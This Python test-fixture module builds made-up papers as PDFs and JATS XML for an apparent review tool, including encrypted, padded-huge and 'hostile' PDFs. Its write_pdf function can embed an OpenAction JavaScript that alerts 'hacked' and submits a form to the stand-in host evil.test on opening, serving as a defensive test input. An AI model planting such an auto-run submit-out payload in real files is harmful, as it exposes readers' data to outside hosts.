"""Made-up papers as files: PDFs written by hand (whole, cut off, encrypted, scanned, huge, hostile), articles in XML.

What is on the pages is known to the letter, so that what is read of them can be compared.
"""

from __future__ import annotations

import io
import random
import textwrap
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import IO

from pypdf import PdfReader, PdfWriter

from review.record import Record
from review.store import Actor, Entry, Store, append_many

TOPICS = (
    "sleep stress burnout mentoring supervision feedback workload resilience empathy coaching rounds handover shifts "
    "appraisal autonomy teamwork leadership wellbeing research communication"
).split()
PLACES = "rural urban coastal alpine northern southern island university district military teaching private".split()
PEOPLE = "surgeons physicians residents interns trainees consultants anaesthetists radiologists pathologists".split()
NAMES = (
    "Aalders Brücke Castellanos Dvořák Eklund Farkas Grünwald Hämäläinen Ibáñez Jovanović Kowalski Lindqvist".split()
)
SHAPES = (
    "{one} and {two} among {place} {people}: a {kind}",
    "Does {one} improve {two} of {people} in {place} hospitals? A {kind}",
    "{two} of {place} {people} after {one}: {kind}",
)
SENTENCE = (
    "We asked doctors of {place} hospitals about {topic} and {other}, and what had helped them in the years before."
)


def papers(count: int) -> list[Record]:
    """Make up papers: titles alike enough to be mistaken for one another, DOIs, authors; the same each time."""
    pick = random.Random(11)
    found, seen = list[Record](), set[str]()
    while len(found) < count:
        one, two = pick.sample(TOPICS, 2)
        shape = pick.choice(SHAPES)
        kind = pick.choice(("randomised trial", "cohort study", "qualitative study", "survey", "systematic review"))
        title = shape.format(one=one, two=two, place=pick.choice(PLACES), people=pick.choice(PEOPLE), kind=kind)
        title = title[0].upper() + title[1:]
        if title in seen:
            continue
        seen.add(title)
        n = len(found) + 1
        authors = tuple(f"{name}, {pick.choice('ABCDEFG')}" for name in pick.sample(NAMES, 3))
        found.append(Record(title=title, authors=authors, date=str(2000 + n % 24), doi=f"10.5555/made.{n}",
                            journal="Journal of Made-up Studies", pmid=str(30_000_000 + n)))  # fmt: skip
    return found


def pages_of(paper: Record, *, doi: bool = True, pages: int = 4, cited: Sequence[Record] = ()) -> list[list[str]]:
    """Set a paper: title, authors and abstract first, then text; its references name other papers."""
    pick = random.Random(paper.title)
    names = ", ".join(f"{name.partition(', ')[2]}. {name.partition(',')[0]}" for name in paper.authors)
    first = [f"Journal of Made-up Studies {paper.date};{pick.randint(1, 60)}:{pick.randint(1, 900)}", ""]
    first += [*textwrap.wrap(paper.title or "", 48), "", names, ""]
    first += [f"https://doi.org/{paper.doi}", ""] if doi else []
    first += ["Abstract", *_text(pick, 10)]
    rest = [[f"{names.partition(',')[0]} et al.", *_text(pick, 45)] for _ in range(pages - 1)]
    references = [
        f"{n}. {one.authors[0].replace(',', '')}, et al. {one.title}. J Made Stud {one.date};{n}:{n}-9. doi:{one.doi}"
        for n, one in enumerate(cited, 1)
    ]
    return [first, *rest[:-1], [*rest[-1], "References", *(w for one in references for w in textwrap.wrap(one, 95))]]


def _text(pick: random.Random, lines: int) -> list[str]:
    said = SENTENCE.format(place=pick.choice(PLACES), topic=pick.choice(TOPICS), other=pick.choice(TOPICS))
    return (textwrap.wrap(" ".join([said] * lines), 95))[:lines]


def pdf(pages: Iterable[Sequence[str]], *, javascript: bool = False, picture: bool = False) -> bytes:
    """Give lines of text as a PDF of the simplest kind, as ``write_pdf`` does."""
    out = io.BytesIO()
    write_pdf(out, pages, javascript=javascript, picture=picture)
    return out.getvalue()


def write_pdf(
    out: IO[bytes],
    pages: Iterable[Sequence[str]],
    *,
    padding: int = 0,
    javascript: bool = False,
    picture: bool = False,
) -> None:
    """Write lines of text as a PDF.

    ``padding`` million bytes stand in it that belong to no page; ``javascript`` runs when a program that allows it
    opens the file; with a ``picture`` every page draws one, as a scan does.
    """
    places = list[int]()

    def put(body: bytes) -> int:
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (len(places), body))
        return len(places)

    def stream(data: bytes, facts: bytes = b"") -> bytes:
        return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (facts, len(data), data)

    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    font = put(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")
    shown = put(stream(b"\x80", b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray "
                                b"/BitsPerComponent 8"))  # fmt: skip
    drawn = [put(stream(_drawn(lines, picture))) for lines in pages]
    if padding:
        places.append(out.tell())
        out.write(b"%d 0 obj\n<< /Length %d000000 >>\nstream\n" % (len(places), padding))
        for _ in range(padding):
            out.write(b"0" * 1_000_000)
        out.write(b"\nendstream\nendobj\n")
    parent = len(places) + len(drawn) + 1
    picture_of = b"/XObject << /Im1 %d 0 R >>" % shown if picture else b""
    page = (
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R /Resources << /Font << /F1 %d 0 R >>"
        b" %s >> >>"
    )
    kids = [put(page % (parent, one, font, picture_of)) for one in drawn]
    put(b"<< /Type /Pages /Count %d /Kids [%s] >>" % (len(kids), b" ".join(b"%d 0 R" % one for one in kids)))
    script = (
        b" /OpenAction << /S /JavaScript /JS (app.alert\\('hacked'\\); this.submitForm\\('http://evil.test'\\);) >>"
    )
    root = put(b"<< /Type /Catalog /Pages %d 0 R%s >>" % (parent, script if javascript else b""))
    start = out.tell()
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    out.write(b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(places) + 1, table))
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, root, start))


def _drawn(lines: Sequence[str], picture: bool) -> bytes:
    shown = b"q 500 0 0 700 40 40 cm /Im1 Do Q\n" if picture else b""
    said = [line.encode("cp1252", "replace").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
            for line in lines]  # fmt: skip
    return shown + b"BT /F1 10 Tf 50 800 Td 12 TL\n" + b"".join(b"(%s) Tj T*\n" % line for line in said) + b"ET"


def paper_pdf(paper: Record, **options: bool | int) -> bytes:
    """Give a paper as a PDF, with its DOI on it."""
    return pdf(pages_of(paper), **options)  # type: ignore[arg-type]


def encrypted(data: bytes, password: str, *, algorithm: str = "AES-128") -> bytes:
    """Encrypt a PDF; with ``""`` everybody can open it, as publishers have it."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    writer.encrypt(password, owner_password="owner", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def jats(paper: Record, *, body: bool = True) -> bytes:
    """Give a paper as an article in XML."""
    names = "".join(f"<contrib><name><surname>{a.partition(',')[0]}</surname></name></contrib>" for a in paper.authors)
    text = "<body><sec><title>Methods</title><p>We asked doctors.</p></sec></body>" if body else ""
    return (
        "<?xml version='1.0'?><article article-type='research-article'><front><article-meta>"
        f"<article-id pub-id-type='doi'>{paper.doi}</article-id><title-group>"
        f"<article-title>{paper.title}</article-title></title-group><contrib-group>{names}</contrib-group><pub-date><year>{paper.date}</year></pub-date>"
        f"<abstract><p>Short.</p></abstract></article-meta></front>{text}</article>"
    ).encode()


def huge(paper: Record, path: Path, megabytes: int) -> None:
    """Write a paper as a PDF of at least so many million bytes."""
    with path.open("wb") as out:
        write_pdf(out, pages_of(paper), padding=megabytes)


def include(store: Store, actor: Actor, reports: Iterable[int]) -> None:
    """Include reports on title and abstract, all in one transaction."""
    said = {"stage": "title-abstract", "verdict": "include", "reasons": []}
    with store.write() as connection:
        append_many(store, connection, actor, [Entry("decision", {"report": report, **said}) for report in reports])
